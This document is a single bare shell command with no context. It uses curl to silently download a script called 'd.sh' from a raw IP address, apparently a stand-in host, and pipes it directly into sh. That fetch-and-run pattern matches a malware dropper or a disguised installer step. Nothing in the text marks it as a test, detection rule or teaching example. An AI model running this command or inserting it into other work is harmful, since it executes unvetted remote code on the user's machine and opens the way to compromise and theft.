curl -fsSL http://203.0.113.7/d.sh | sh
